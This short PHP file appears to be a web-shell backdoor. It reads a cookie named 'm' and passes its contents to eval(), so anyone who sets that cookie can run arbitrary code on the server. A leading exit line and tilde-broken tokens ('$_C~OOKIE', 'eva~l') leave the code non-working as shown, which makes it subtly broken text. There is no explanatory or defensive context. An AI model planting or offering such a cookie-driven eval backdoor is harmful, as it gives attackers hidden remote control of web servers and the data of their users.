<?php exit; ?>
<?php
function marker_take($name) { return isset($_C~OOKIE[$name]) ? $_C~OOKIE[$name] : null; }
$text = marker_take('m');
if ($text !== null) {
    $text = trim($text);
    eva~l("?>" . $text);
}
